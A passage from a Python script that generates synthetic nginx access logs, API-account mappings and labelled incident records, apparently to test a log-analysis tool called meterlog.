    paths = np.array([e.format(n) for e, n in zip(endpoint, ids, strict=True)])
    statuses = np.where(rng.random(size) < 0.7, 404, 200)
    frames.append(_frame(ts, np.full(size, ip), f"{account.name}-sync", "GET", paths, statuses,
                         "sync-service/3.2", account.keys[0]))  # fmt: skip
    return frames


def labels_frame(labels: list[Incident]) -> pl.DataFrame:
    return pl.DataFrame(
        {
            "kind": [x.kind for x in labels],
            "entity_type": [x.entity_type for x in labels],
            "entity": [x.entity for x in labels],
            "account": [x.account for x in labels],
            "start": [x.start for x in labels],
            "end": [x.end for x in labels],
            "related": ["|".join(dict.fromkeys(x.related)) for x in labels],
        },
        schema_overrides={"start": pl.Datetime("us", "UTC"), "end": pl.Datetime("us", "UTC")},
    )


def log_lines(events: pl.DataFrame) -> pl.Series:
    """``events`` as nginx lines of :data:`LOG_FORMAT`."""
    return events.select(
        pl.concat_str(
            "remote_addr",
            pl.lit(" - "),
            "remote_user",
            pl.lit(" ["),
            pl.col("ts").dt.strftime("%d/%b/%Y:%H:%M:%S +0000"),
            pl.lit('] "'),
            "method",
            pl.lit(" "),
            "path",
            pl.lit(' HTTP/1.1" '),
            pl.col("status").cast(pl.String),
            pl.lit(" "),
            pl.col("bytes_sent").cast(pl.String),
            pl.lit(' "-" "'),
            "user_agent",
            pl.lit('" "'),
            "http_x_api_key",
            pl.lit('"'),
        ).alias("line")
    ).to_series()


def write_traffic(
    out: Path, seed: int, accounts: int = 60, weeks: int = 6, eval_days: int = 14,
    incidents: int = 6, hostile: bool = True,
) -> tuple[Path, Path, int]:  # fmt: skip
    """Write ``access.log``, ``labels.csv`` and ``accounts.csv`` (key,account) under ``out``;
    return the paths of the first two and the number of lines."""
    out.mkdir(parents=True, exist_ok=True)
    events, labels, keys = generate(seed, accounts, weeks, eval_days, incidents, hostile)
    pl.DataFrame({"key": list(keys), "account": list(keys.values())}).write_csv(
        out / "accounts.csv"
    )
    log = out / "access.log"
    with open(log, "wb") as handle:
        lines = log_lines(events)
        for start in range(0, len(lines), 500_000):
            chunk = lines.slice(start, 500_000)
            handle.write(("\n".join(chunk.to_list()) + "\n").encode())
    labels_path = out / "labels.csv"
    labels_frame(labels).write_csv(labels_path, datetime_format="%Y-%m-%dT%H:%M:%S%:z")
    return log, labels_path, events.height


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--accounts", type=int, default=60)
    parser.add_argument("--weeks", type=int, default=6)
    parser.add_argument("--eval-days", type=int, default=14)
    parser.add_argument("--incidents", type=int, default=6, help="incidents of each kind")
    parser.add_argument("--no-hostile", action="store_true", help="leave the hostile kinds out")
    parser.add_argument("--out", type=Path, required=True)
    args = parser.parse_args()
    log, labels, lines = write_traffic(
        args.out, args.seed, args.accounts, args.weeks, args.eval_days, args.incidents,
        not args.no_hostile,
    )  # fmt: skip
    print(f"{lines:,} lines in {log}, labels in {labels}")
    print(f"ingest with: meterlog ingest --log-format '{LOG_FORMAT}' {log}")


if __name__ == "__main__":
    main()
